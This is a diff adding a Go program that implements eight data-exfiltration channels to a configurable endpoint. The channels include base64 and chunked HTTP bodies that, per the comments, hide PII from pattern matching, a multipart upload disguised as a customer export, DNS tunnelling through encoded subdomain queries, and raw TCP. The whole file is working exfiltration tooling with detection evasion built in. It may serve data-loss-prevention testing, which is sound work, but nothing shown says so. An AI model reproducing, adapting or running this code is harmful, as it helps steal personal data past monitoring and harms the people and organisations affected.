@@ -0,0 +1,289 @@
+package main
+
+import (
+	"bytes"
+	"compress/gzip"
+	"context"
+	"encoding/base32"
+	"encoding/base64"
+	"errors"
+	"fmt"
+	"hash/crc32"
+	"io"
+	"io/ioutil"
+	"log"
+	"mime/multipart"
+	"net"
+	"net/http"
+	"net/textproto"
+	"net/url"
+	"sort"
+	"strings"
+	"time"
+)
+
+// exfilConfig is where the payloads are sent, depending on the mode.
+type exfilConfig struct {
+	// url is the endpoint of the HTTP modes.
+	url    string
+	client *http.Client
+	// dnsServer is the address of the resolver the DNS queries are sent to. The system
+	// resolver is used if it's empty.
+	dnsServer string
+	// dnsDomain is the domain the data is encoded in the subdomains of.
+	dnsDomain string
+	// tcpAddr is the address of the raw TCP mode.
+	tcpAddr string
+}
+
+// exfilMode sends a payload over one channel.
+type exfilMode struct {
+	name string
+	// http is set for the modes that send the payload to the HTTP endpoint.
+	http bool
+	send func(c *exfilConfig, payload []byte) error
+}
+
+var exfilModes = []exfilMode{
+	{"post", true, postJSON},
+	{"get", true, getQueryString},
+	{"base64", true, postBase64},
+	{"gzip", true, postGzip},
+	{"chunked", true, postChunked},
+	{"multipart", true, postMultipart},
+	{"dns", false, dnsTunnel},
+	{"tcp", false, rawTCP},
+}
+
+// parseExfilModes returns the modes of a comma-separated list of names.
+func parseExfilModes(s string) ([]exfilMode, error) {
+	byName := make(map[string]exfilMode)
+	var names []string
+	for _, m := range exfilModes {
+		byName[m.name] = m
+		names = append(names, m.name)
+	}
+	sort.Strings(names)
+	var modes []exfilMode
+	for _, name := range strings.Split(s, ",") {
+		m, ok := byName[strings.TrimSpace(name)]
+		if !ok {
+			return nil, fmt.Errorf("unknown mode %q, expected one of %s", name, strings.Join(names, ", "))
+		}
+		modes = append(modes, m)
+	}
+	return modes, nil
+}
+
+// sendHTTP sends the request and logs the response's status code.
+func sendHTTP(c *exfilConfig, mode string, req *http.Request) error {
+	resp, err := c.client.Do(req)
+	if err != nil {
+		return err
+	}
+	defer resp.Body.Close()
+	_, _ = io.Copy(ioutil.Discard, resp.Body)
+	log.Printf("%s (%s) returned code: %d", req.Method, mode, resp.StatusCode)
+	return nil
+}
+
+// postJSON sends the payload as a plain JSON body.
+func postJSON(c *exfilConfig, payload []byte) error {
+	req, err := http.NewRequest(http.MethodPost, c.url, bytes.NewReader(payload))
+	if err != nil {
+		return err
+	}
+	req.Header.Set("Content-Type", "application/json")
+	return sendHTTP(c, "post", req)
+}
+
+// getQueryString sends the payload in the `data` parameter of the query string of a GET.
+func getQueryString(c *exfilConfig, payload []byte) error {
+	u, err := url.Parse(c.url)
+	if err != nil {
+		return err
+	}
+	q := u.Query()
+	q.Set("data", string(payload))
+	u.RawQuery = q.Encode()
+	req, err := http.NewRequest(http.MethodGet, u.String(), nil)
+	if err != nil {
+		return err
+	}
+	return sendHTTP(c, "get", req)
+}
+
+// postBase64 sends the payload base64-encoded, hiding the PII from plain text matching.
+func postBase64(c *exfilConfig, payload []byte) error {
+	body := base64.StdEncoding.EncodeToString(payload)
+	req, err := http.NewRequest(http.MethodPost, c.url, strings.NewReader(body))
+	if err != nil {
+		return err
+	}
+	req.Header.Set("Content-Type", "text/plain")
+	return sendHTTP(c, "base64", req)
+}
+
+// postGzip sends the payload as a gzip-encoded JSON body.
+func postGzip(c *exfilConfig, payload []byte) error {
+	var body bytes.Buffer
+	zw := gzip.NewWriter(&body)
+	if _, err := zw.Write(payload); err != nil {
+		return err
+	}
+	if err := zw.Close(); err != nil {
+		return err
+	}
+	req, err := http.NewRequest(http.MethodPost, c.url, &body)
+	if err != nil {
+		return err
+	}
+	req.Header.Set("Content-Type", "application/json")
+	req.Header.Set("Content-Encoding", "gzip")
+	return sendHTTP(c, "gzip", req)
+}
+
+// Size of the chunks of the chunked mode, small enough to split the PII across chunks.
+const chunkSize = 16
+
+// postChunked sends the payload as a JSON body with chunked transfer encoding, in small chunks.
+func postChunked(c *exfilConfig, payload []byte) error {
+	pr, pw := io.Pipe()
+	go func() {
+		// Each write is sent as a chunk.
+		for p := payload; len(p) > 0; {
+			n := chunkSize
+			if n > len(p) {
+				n = len(p)
+			}
+			if _, err := pw.Write(p[:n]); err != nil {
+				return
+			}
+			p = p[n:]
+		}
+		pw.Close()
+	}()
+	req, err := http.NewRequest(http.MethodPost, c.url, pr)
+	if err != nil {
+		pr.Close()
+		return err
+	}
+	req.ContentLength = -1
+	req.Header.Set("Content-Type", "application/json")
+	err = sendHTTP(c, "chunked", req)
+	pr.Close()
+	return err
+}
+
+// postMultipart uploads the payload as a JSON file of a multipart form.
+func postMultipart(c *exfilConfig, payload []byte) error {
+	var body bytes.Buffer
+	mw := multipart.NewWriter(&body)
+	if err := mw.WriteField("description", "customer export"); err != nil {
+		return err
+	}
+	h := make(textproto.MIMEHeader)
+	h.Set("Content-Disposition", fmt.Sprintf(`form-data; name="file"; filename="export-%08x.json"`, crc32.ChecksumIEEE(payload)))
+	h.Set("Content-Type", "application/json")
+	part, err := mw.CreatePart(h)
+	if err != nil {
+		return err
+	}
+	if _, err := part.Write(payload); err != nil {
+		return err
+	}
+	if err := mw.Close(); err != nil {
+		return err
+	}
+	req, err := http.NewRequest(http.MethodPost, c.url, &body)
+	if err != nil {
+		return err
+	}
+	req.Header.Set("Content-Type", mw.FormDataContentType())
+	return sendHTTP(c, "multipart", req)
+}
+
+// DNS name limits, see RFC 1035.
+const (
+	maxDNSLabelLen = 63
+	maxDNSNameLen  = 253
+)
+
+// How long each DNS query of the tunnel can take.
+const dnsQueryTimeout = 2 * time.Second
+
+// base32 is case-insensitive, as DNS names are.
+var dnsEncoding = base32.StdEncoding.WithPadding(base32.NoPadding)
+
+// dnsTunnel encodes the payload in the labels of DNS queries for subdomains of the domain,
+// such as `<data>.<data>.3-12.<id>.exfil.example.`, where 3-12 is the index of the query
+// among the 12 of the payload and id identifies the payload. The data is base32-encoded.
+func dnsTunnel(c *exfilConfig, payload []byte) error {
+	resolver := net.DefaultResolver
+	if c.dnsServer != "" {
+		resolver = &net.Resolver{
+			PreferGo: true,
+			Dial: func(ctx context.Context, network, _ string) (net.Conn, error) {
+				var d net.Dialer
+				return d.DialContext(ctx, network, c.dnsServer)
+			},
+		}
+	}
+
+	data := strings.ToLower(dnsEncoding.EncodeToString(payload))
+	suffix := fmt.Sprintf("%08x.%s.", crc32.ChecksumIEEE(payload), strings.TrimSuffix(c.dnsDomain, "."))
+	// Leave room for the index label, of up to 10 characters.
+	perQuery := (maxDNSNameLen - len(suffix) - 11) / (maxDNSLabelLen + 1) * maxDNSLabelLen
+	if perQuery <= 0 {
+		return fmt.Errorf("domain %q is too long", c.dnsDomain)
+	}
+	total := (len(data) + perQuery - 1) / perQuery
+	failed := 0
+	for i := 0; i < total; i++ {
+		chunk := data[i*perQuery:]
+		if len(chunk) > perQuery {
+			chunk = chunk[:perQuery]
+		}
+		var labels []string
+		for len(chunk) > maxDNSLabelLen {
+			labels = append(labels, chunk[:maxDNSLabelLen])
+			chunk = chunk[maxDNSLabelLen:]
+		}
+		labels = append(labels, chunk, fmt.Sprintf("%d-%d", i+1, total))
+		name := strings.Join(labels, ".") + "." + suffix
+
+		ctx, cancel := context.WithTimeout(context.Background(), dnsQueryTimeout)
+		_, err := resolver.LookupHost(ctx, name)
+		cancel()
+		// The names don't resolve unless the domain's name server answers them, which doesn't
+		// matter as the data is in the query. A failed query, such as one timing out, may still
+		// have been sent, so the next ones are sent anyway.
+		var dnsErr *net.DNSError
+		if err != nil && !(errors.As(err, &dnsErr) && dnsErr.IsNotFound) {
+			log.Printf("DNS query %d of %d failed (dns): %v", i+1, total, err)
+			failed++
+		}
+	}
+	if failed == total {
+		return fmt.Errorf("all %d DNS queries failed", total)
+	}
+	log.Printf("Sent %d DNS queries, %d failed (dns)", total, failed)
+	return nil
+}
+
+// rawTCP writes the payload on a new TCP connection, followed by a newline.
+func rawTCP(c *exfilConfig, payload []byte) error {
+	conn, err := net.DialTimeout("tcp", c.tcpAddr, 10*time.Second)
+	if err != nil {
+		return err
+	}
+	defer conn.Close()
+	if err := conn.SetWriteDeadline(time.Now().Add(10 * time.Second)); err != nil {
+		return err
+	}
+	if _, err := fmt.Fprintf(conn, "%s\n", payload); err != nil {
+		return err
+	}
+	log.Printf("Sent %d bytes over TCP (tcp)", len(payload)+1)
+	return nil
+}